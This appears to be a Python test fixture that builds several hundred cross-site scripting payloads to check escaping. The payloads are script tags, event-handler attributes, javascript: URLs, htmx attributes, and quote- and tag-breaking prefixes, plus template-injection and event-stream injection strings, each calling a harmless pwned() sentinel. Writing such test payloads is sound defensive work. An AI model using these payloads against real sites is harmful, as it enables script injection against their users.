"""Texts that would run a script where somebody forgot to escape them."""

_SCRIPTS = ("pwned()", "parent.pwned()", "top['pwned']()")
_TAGS = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<a href=javascript:{0}>x</a>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<style>@import 'javascript:{0}'</style>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<base href=javascript:{0}//>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<object data=javascript:{0}>",
    "<video><source onerror={0}></video>",
    "<hx-partial hx-target='body'><script>{0}</script></hx-partial>",
    "<div hx-get='/x' hx-trigger='load' hx-on:load='{0}'>",
    "<div hx-on::after-process='{0}'>",
    "<template><script>{0}</script></template>",
)
_CLOSINGS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}",
    "--></title></style></pre>{0}",
    "\n\n{0}\n\n",
)
_OTHERS = (
    "{{{{ 7*7 }}}}{0}",
    "{{% raw %}}{0}",
    "${{{0}}}",
    "javascript:{0}",
    "data: x\n\nevent: turn\ndata: {0}",
    "\u202e{0}",
    "' onmouseover='{0}",
    '" autofocus onfocus="{0}',
)


def payloads() -> list[str]:
    """Several hundred of them, each once."""
    tags = [
        closing.format(tag.format(script))
        for tag in _TAGS
        for closing in _CLOSINGS
        for script in _SCRIPTS[:2]
    ]
    return tags + [other.format(script) for other in _OTHERS for script in _SCRIPTS]
